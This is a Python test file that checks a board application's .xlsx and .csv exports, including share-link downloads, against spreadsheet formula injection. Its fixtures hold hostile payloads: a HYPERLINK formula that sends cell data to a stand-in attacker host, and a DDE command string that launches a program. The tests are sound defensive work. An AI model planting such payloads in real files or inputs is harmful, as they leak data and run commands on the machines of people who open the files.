"""Formula injection in the downloads: every text a board's members typed
(the board's title, its level labels, pejlemærker, målsætninger, every card
field) lands in the .xlsx and .csv as text, in the heading rows and the
table header too, and the download's name never carries a formula. A share
link's visitors download the same files, so the files are opened here as a
spreadsheet would open them."""

from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from board.extensions import db
from board.share.services import create_share_link
from tests import factories

FORMULA = '=HYPERLINK("http://angriber.example/?"&A1,"Klik")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_board():
    board = factories.make_board(
        title=FORMULA,
        theme_label="=1+1",
        objective_label="@SUM(A1)",
        themes=(("+cmd|' /C calc'!A0", ("1.1 -2+3",)),),
    )
    theme = board.themes[0]
    factories.make_initiative(
        board,
        "-10+20",
        theme=theme,
        objective=theme.objectives[0],
        description="=1+2",
        timeline="\t=3",
        status_note="\r=4",
        responsible="@navn",
    )
    return board


def _share_token(board) -> str:
    token = create_share_link(board, label="Udvalg", actor=None).token
    db.session.commit()
    return token


def test_every_xlsx_cell_is_text_heading_and_header_included(app, hostile_board):
    token = _share_token(hostile_board)
    response = app.test_client().get(f"/s/{token}/status.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type != "s"]
    values = {c.coordinate: c.value for c in cells}
    assert values["A2"] == FORMULA  # the board's title, shown as typed
    assert values["A4"] == "=1+1" and values["B4"] == "@SUM(A1)"  # the table header
    assert values["A5"] == "+cmd|' /C calc'!A0"
    assert values["C5"] == "-10+20"


def test_every_csv_cell_is_escaped_by_the_owasp_rule(app, hostile_board):
    token = _share_token(hostile_board)
    response = app.test_client().get(f"/s/{token}/status.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:2] == ["'=1+1", "'@SUM(A1)"]
    for row in rows:
        for cell in row:
            assert not cell.startswith(STARTS), (row, cell)
    assert rows[1][0] == "'+cmd|' /C calc'!A0" and rows[1][2] == "'-10+20"
    assert [rows[1][i] for i in (3, 4, 7, 8)] == ["'=1+2", "'\t=3", "'\r=4", "'@navn"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "docx"])
def test_the_download_name_never_carries_a_formula(app, hostile_board, fmt):
    token = _share_token(hostile_board)
    response = app.test_client().get(f"/s/{token}/status.{fmt}")
    disposition = response.headers["Content-Disposition"]
    name = re.fullmatch(r'attachment; filename="([^"]*)"', disposition).group(1)
    assert re.fullmatch(rf"status-[a-z0-9-]+-\d{{4}}-\d{{2}}-\d{{2}}\.{fmt}", name), name


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_escaped_titles_come_back_as_typed_through_the_importer(app, users, as_user, fmt):
    from board.models import Board, Initiative
    from tests.test_importer_views import _confirm_form

    board = factories.make_board(title=FORMULA, themes=(("+cmd|' /C calc'!A0", ("1.1 -2+3",)),))
    theme = board.themes[0]
    factories.make_initiative(board, "-10+20", theme=theme, objective=theme.objectives[0])
    admin = as_user("admin")
    data = admin.get(f"/boards/{board.id}/status.{fmt}").data
    preview = admin.post(
        "/import/preview",
        data={"fil": (io.BytesIO(data), f"f.{fmt}")},
        content_type="multipart/form-data",
    )
    assert preview.status_code == 200
    response = admin.post("/import", data=_confirm_form(preview, titel="Kopi"))
    assert response.status_code == 302
    copy = db.session.scalar(db.select(Board).where(Board.title == "Kopi"))
    theme = copy.themes[0]
    assert theme.title == "+cmd|' /C calc'!A0"
    assert (theme.objectives[0].number, theme.objectives[0].title) == ("1.1", "-2+3")
    assert db.session.scalars(
        db.select(Initiative.title).where(Initiative.board_id == copy.id)
    ).all() == ["-10+20"]
